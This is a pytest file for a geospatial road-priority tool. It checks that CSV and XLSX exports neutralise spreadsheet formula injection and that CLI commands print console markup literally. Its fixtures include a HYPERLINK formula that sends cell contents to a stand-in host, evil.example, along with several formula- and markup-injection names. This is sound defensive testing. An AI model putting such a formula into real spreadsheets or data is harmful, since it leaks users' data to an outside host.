"""Hostile text in agency data: formula injection in every export, rich markup in every
CLI command that prints data (issue 10, items 2 and 3).

A small hand-made workspace (the road network of tests/priorities/test_priorities_cli.py) whose road
and destination names are hostile: spreadsheet formulas and rich console markup. The
expectations are the rules themselves, checked on the files as written: no worksheet
holds a ``<f>`` (formula) element, every text cell that starts with ``= + - @`` is
written with OWASP's ``'`` prefix in CSV and as a string cell in XLSX, and every name is
printed literally by the CLI.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import geopandas as gpd
import pytest
from openpyxl import load_workbook
from shapely.geometry import LineString, Point

from geo.io.workspace import Source, Workspace
from tests._paths import PROJECT_ROOT

UTM = "EPSG:32753"
X0, Y0 = 700_000.0, 9_500_000.0
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
# road name per edge; every one is a formula or markup (or both)
ROAD_NAMES = {
    101: FORMULA,
    102: "Pantai [/b] tutup",
    103: "+1+2 [baru]",
    104: "-2+3 [bold red]merah[/]",
    105: "@SUM(1) [/x] :smile:",
}
DEST_NAMES = {"D1": FORMULA + " [/b]", "D2": "-5 [baru] Tujuan"}
ALL_NAMES = [*ROAD_NAMES.values(), *DEST_NAMES.values()]
RISKY_START = ("=", "+", "-", "@", "\t", "\r")


def xy(x: float, y: float) -> tuple[float, float]:
    return (X0 + x, Y0 + y)


G, M1, M2, T, T2 = (0, 0), (5000, 3000), (5000, -3000), (10000, 0), (12000, 0)
ROWS = [
    (1, 2, G, M1, 10, "tanah", 101),
    (2, 4, M1, T, 1, "asphalt", 102),
    (1, 3, G, M2, 11, "tanah", 103),
    (3, 4, M2, T, 1, "asphalt", 104),
    (4, 5, T, T2, 2, "tanah", 105),
]


def siapwisata(*args: str | Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "COLUMNS": "400"}
    return subprocess.run([sys.executable, "-m", "geo.cli", *map(str, args)],
                          capture_output=True, text=True, timeout=600, cwd=PROJECT_ROOT,
                          env=env)


def hostile_workspace(path: Path) -> Path:
    roads = gpd.GeoDataFrame([{
        "u": u, "v": v, "osm_way_id": way, "highway": "tertiary", "name": ROAD_NAMES[way],
        "ref": None, "surface": surface, "smoothness": None, "tracktype": None,
        "maxspeed": None, "oneway": False, "length_m": km * 1000.0, "authority": "kabupaten",
        "condition": "baik", "mode": "road", "provenance": "agency",
        "geometry": LineString([xy(*a), xy(*b)]),
    } for u, v, a, b, km, surface, way in ROWS], geometry="geometry", crs=UTM)

    def pts(coords: list[tuple[float, float]], **cols: Any) -> gpd.GeoDataFrame:
        return gpd.GeoDataFrame(cols, geometry=[Point(xy(*c)) for c in coords], crs=UTM)

    with Workspace(path).update(create=True) as stage:
        stage.write("roads", roads)
        stage.write("destinations", pts([T, T2], id=list(DEST_NAMES),
                                        name=list(DEST_NAMES.values()),
                                        category=["alam", "pantai"],
                                        provenance=["agency", "agency"]))
        stage.write("gateways", pts([G], id=["G1"], name=["Gerbang [/b] G"], kind=["pelabuhan"],
                                    provenance=["agency"]))
        stage.add_source(Source(name="tangan [/b] [baru]", layer="roads", date="2024-05-17",
                                licence="test"))
    return path


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Run every command that prints data or writes a table, once, on the workspace."""
    tmp = tmp_path_factory.mktemp("hostile")
    ws = hostile_workspace(tmp / "hostile.gpkg")
    works = tmp / "rencana.csv"
    with works.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, delimiter=";")
        w.writerow(["name", "upgrade"])
        w.writerow([ROAD_NAMES[101], "tanah_kerikil"])
    runs: dict[str, subprocess.CompletedProcess[str]] = {}
    files: dict[str, Path] = {}
    for ext in ("xlsx", "csv"):
        files[f"score.{ext}"] = tmp / f"skor.{ext}"
        runs[f"score.{ext}"] = siapwisata("score", "--workspace", ws, "--out", files[f"score.{ext}"])
        files[f"priorities.{ext}"] = tmp / f"prioritas.{ext}"
        runs[f"priorities.{ext}"] = siapwisata(
            "priorities", "--workspace", ws, "--authority", "all", "--budget", "36000000000",
            "--out", files[f"priorities.{ext}"])
        files[f"scenario.{ext}"] = tmp / f"skenario.{ext}"
        runs[f"scenario.{ext}"] = siapwisata("scenario", "--workspace", ws, "--what-if", works,
                                             "--out", files[f"scenario.{ext}"])
    runs["info"] = siapwisata("info", "--workspace", ws)
    return {"ws": ws, "runs": runs, "files": files, "tmp": tmp}


def worksheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist()
                if n.startswith("xl/worksheets/") and n.endswith(".xml")}


def check_xlsx(path: Path, expected_text: list[str]) -> None:
    """No formula anywhere; each expected text is a string cell holding exactly it."""
    sheets = worksheet_xml(path)
    assert sheets
    for name, xml in sheets.items():
        assert re.search(r"<(\w+:)?f[ >/]", xml) is None, f"formula in {path.name}:{name}"
    wb = load_workbook(path)
    cells = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    for text in expected_text:
        assert text in cells, (path.name, text)
        assert cells[text].data_type == "s"
        if text.startswith(RISKY_START):
            assert cells[text].quotePrefix


def csv_cells(path_or_text: Path | str) -> list[list[str]]:
    text = (path_or_text.read_text(encoding="utf-8-sig") if isinstance(path_or_text, Path)
            else path_or_text.lstrip("\ufeff"))
    return list(csv.reader(io.StringIO(text)))


def check_csv(rows: list[list[str]], expected_text: list[str]) -> None:
    """OWASP: text starting with = + - @ tab CR is prefixed with '; numbers stay numbers."""
    flat = [c for r in rows for c in r]
    for cell in flat:
        if cell.startswith(RISKY_START):
            float(cell)  # only a plain negative number may start with '-'
    for text in expected_text:
        want = "'" + text if text.startswith(RISKY_START) else text
        assert want in flat, text


# --- formula injection: every XLSX and CSV writer -------------------------------------------


def test_every_command_succeeds(outputs: dict[str, Any]) -> None:
    for name, res in outputs["runs"].items():
        assert res.returncode == 0, (name, res.stdout, res.stderr)
        assert "Traceback" not in res.stderr


def test_score_xlsx_and_csv_hold_names_as_text(outputs: dict[str, Any]) -> None:
    files = outputs["files"]
    check_xlsx(files["score.xlsx"], list(DEST_NAMES.values()))
    wb = load_workbook(files["score.xlsx"])
    sheet = wb["Skor kesiapan"]
    header = [c.value for c in sheet[1]]
    lat = header.index("Lintang")
    assert all(isinstance(r[lat].value, float) and r[lat].value < 0
               for r in sheet.iter_rows(min_row=2))  # numbers stay numbers
    rows = csv_cells(files["score.csv"])
    check_csv(rows, list(DEST_NAMES.values()))
    lat = rows[0].index("lat")
    assert all(float(r[lat]) < 0 and not r[lat].startswith("'") for r in rows[1:])


def test_priorities_xlsx_and_csv_hold_names_as_text(outputs: dict[str, Any]) -> None:
    files = outputs["files"]
    check_xlsx(files["priorities.xlsx"], [ROAD_NAMES[101], ROAD_NAMES[103], ROAD_NAMES[105]])
    wb = load_workbook(files["priorities.xlsx"])
    sheet = wb["Prioritas"]
    header = [c.value for c in sheet[1]]
    cost = header.index("Biaya (Rp, asumsi)")
    assert all(isinstance(r[cost].value, int | float) for r in sheet.iter_rows(min_row=2))
    check_csv(csv_cells(files["priorities.csv"]),
              [ROAD_NAMES[101], ROAD_NAMES[103], ROAD_NAMES[105]])


def test_scenario_xlsx_and_csv_hold_names_as_text(outputs: dict[str, Any]) -> None:
    files = outputs["files"]
    check_xlsx(files["scenario.xlsx"], list(DEST_NAMES.values()))
    rows = csv_cells(files["scenario.csv"])
    check_csv(rows, list(DEST_NAMES.values()))
    delta = rows[0].index("access_delta")
    assert any(float(r[delta]) < 0 for r in rows[1:])  # a negative number, not prefixed


def test_api_downloads_hold_names_as_text(outputs: dict[str, Any]) -> None:
    from fastapi.testclient import TestClient

    from api.main import create_app

    with TestClient(create_app(outputs["ws"])) as client:
        res = client.get("/api/priorities", params={"format": "csv"})
        assert res.status_code == 200
        check_csv(csv_cells(res.content.decode("utf-8")),
                  [ROAD_NAMES[101], ROAD_NAMES[103], ROAD_NAMES[105]])
        res = client.get("/api/priorities", params={"format": "xlsx"})
        assert res.status_code == 200
        path = outputs["tmp"] / "api.xlsx"
        path.write_bytes(res.content)
        check_xlsx(path, [ROAD_NAMES[101], ROAD_NAMES[103]])


def test_import_errors_file_holds_values_as_text(outputs: dict[str, Any]) -> None:
    tmp: Path = outputs["tmp"]
    bad = tmp / "jahat.csv"
    with bad.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, delimiter=";")
        w.writerow(["id", "nama", "kategori", "lintang", "bujur"])
        w.writerow(["X1", "Tempat", FORMULA, "-4,55", "136,88"])
    errors = tmp / "masalah.csv"
    res = siapwisata("import", "destinations", bad, "--workspace", outputs["ws"],
                     "--errors", errors)
    assert res.returncode == 1
    rows = csv_cells(errors)
    assert rows[0] == ["berkas", "baris", "kolom", "masalah"]
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(RISKY_START) or re.fullmatch(r"-?\d+(\.\d+)?", cell)
    assert any(FORMULA in c for r in rows for c in r)  # quoted inside the message


def test_safe_cells_keep_numbers_and_other_text() -> None:
    import pandas as pd

    from geo.io import csv_frame

    df = pd.DataFrame({"n": [-5, 3], "x": [-1.5, None], "t": ["-5", "ok"],
                       "o": pd.Series([-2, "=1+1"], dtype=object)})
    out = csv_frame(df)
    assert out["n"].tolist() == [-5, 3] and out["x"].iloc[0] == -1.5
    assert out["t"].tolist() == ["'-5", "ok"]  # text that looks like a formula: prefixed
    assert out["o"].tolist() == [-2, "'=1+1"]  # a number in a text column stays a number


# --- rich markup: every CLI command that prints data ---------------------------------------


def flat(text: str) -> str:
    return " ".join(text.split())


def test_score_priorities_scenario_print_names_literally(outputs: dict[str, Any]) -> None:
    runs = outputs["runs"]
    score = flat(runs["score.csv"].stdout)
    for name in DEST_NAMES.values():
        assert flat(name) in score
    prio = flat(runs["priorities.csv"].stdout)
    for way in (101, 103, 105):  # the unpaved roads are the candidates
        assert flat(ROAD_NAMES[way]) in prio
    scen = flat(runs["scenario.csv"].stdout)
    assert any(flat(n) in scen for n in DEST_NAMES.values())
    for name, res in runs.items():
        assert name == "info" or "Ditulis" in res.stdout


def test_info_prints_source_and_region_literally(outputs: dict[str, Any]) -> None:
    out = flat(outputs["runs"]["info"].stdout)
    assert "tangan [/b] [baru]" in out


def test_import_prints_file_names_and_bad_values_literally(
        outputs: dict[str, Any], tmp_path: Path) -> None:
    ws = tmp_path / "ws [bold] [baru].gpkg"
    ws.write_bytes(Path(outputs["ws"]).read_bytes())
    bad = tmp_path / "destinasi [baru] [bold].csv"
    bad.write_text("id;nama;kategori;lintang;bujur\n"
                   "A1;Pantai [/b] tutup;[/x];-4,55;[/x]\n"
                   "A2;[baru];pantai;-4,55;136,88\n", encoding="utf-8")
    before = ws.read_bytes()
    res = siapwisata("import", "destinations", bad, "--workspace", ws)
    assert res.returncode == 1, res.stdout + res.stderr
    err = flat(res.stderr)
    assert "Traceback" not in err and "MarkupError" not in err
    assert "'[/x]'" in err and "destinasi [baru] [bold].csv" in err
    assert ws.read_bytes() == before

    good = tmp_path / "tujuan [baru] [bold].csv"
    good.write_text("id;nama;kategori;lintang;bujur\n"
                    f"A2;[baru] Pantai [/b];pantai;{-4.55};{136.88}\n".replace(".", ","),
                    encoding="utf-8")
    res = siapwisata("import", "destinations", good, "--workspace", ws)
    assert res.returncode == 0, res.stdout + res.stderr
    out = flat(res.stdout)
    assert "tujuan [baru] [bold].csv" in out and "ws [bold] [baru].gpkg" in out
    res = siapwisata("info", "--workspace", ws)
    assert "tujuan [baru] [bold].csv" in flat(res.stdout)


def test_init_and_info_print_region_name_literally(tmp_path: Path, mimika_dir: Path) -> None:
    ws = tmp_path / "wilayah [bold].gpkg"
    res = siapwisata("init", "--boundary", mimika_dir / "kabupaten.geojson", "--workspace", ws,
                     "--name", "Mimika [/b] [baru] :smile:")
    assert res.returncode == 0, res.stdout + res.stderr
    assert "wilayah [bold].gpkg" in flat(res.stdout)
    res = siapwisata("info", "--workspace", ws)
    assert res.returncode == 0, res.stdout + res.stderr
    assert "Mimika [/b] [baru] :smile:" in flat(res.stdout)


def test_ingest_osm_prints_paths_literally(tmp_path: Path, menteng_osm: Path) -> None:
    ws = tmp_path / "osm [bold] [baru].gpkg"
    res = siapwisata("ingest-osm", menteng_osm, "--workspace", ws)
    assert res.returncode == 0, res.stdout + res.stderr
    assert "osm [bold] [baru].gpkg" in flat(res.stdout)
    assert "[bold] [baru]" in flat(res.stderr)  # progress steps name the file too


def test_demo_prints_paths_literally(tmp_path: Path, data_dir: Path) -> None:
    ws = tmp_path / "demo [bold] [baru].gpkg"
    res = siapwisata("demo", "--workspace", ws, "--data-dir", data_dir)
    assert res.returncode == 0, res.stdout + res.stderr
    assert "Ditulis workspace contoh" in flat(res.stdout)
    assert "demo [bold] [baru].gpkg" in flat(res.stdout)


def test_errors_print_data_literally(tmp_path: Path) -> None:
    res = siapwisata("info", "--workspace", tmp_path / "tidak [bold] ada.gpkg")
    assert res.returncode == 1
    assert "tidak [bold] ada.gpkg" in flat(res.stderr)


# --- configuration numbers within plausible ranges --------------------------------------------


@pytest.mark.parametrize(("toml", "old", "new", "key", "bound"), [
    ("network.toml", "speed_kmh = 5.0", "speed_kmh = 1e308", "walking.speed_kmh",
     "0,50 - 10 km/jam"),
    ("network.toml", "speed_kmh = 250.0", "speed_kmh = 0.001", "air.speed_kmh",
     "50 - 1.000 km/jam"),
    ("network.toml", "checkin_min = 60.0", "checkin_min = nan", "air.checkin_min",
     "0 - 1.440 menit"),
    ("priorities.toml", "unit_cost_rp_per_km = 4_000_000_000", "unit_cost_rp_per_km = 1e308",
     "unit_cost_rp_per_km", "1.000.000 - 1.000.000.000.000 Rp per km"),
])
def test_config_numbers_outside_their_range_are_refused(
        tmp_path: Path, toml: str, old: str, new: str, key: str, bound: str) -> None:
    from geo.exceptions import ConfigError
    from geo.network import load_network_config
    from geo.priorities import load_priorities_config

    text = (PROJECT_ROOT / "data" / toml).read_text(encoding="utf-8")
    assert old in text
    path = tmp_path / toml
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    load = load_network_config if toml == "network.toml" else load_priorities_config
    load(PROJECT_ROOT / "data" / toml)  # the shipped file is within every range
    with pytest.raises(ConfigError) as exc:
        load(path)
    msg = str(exc.value)
    assert str(path) in msg and key in msg and bound in msg
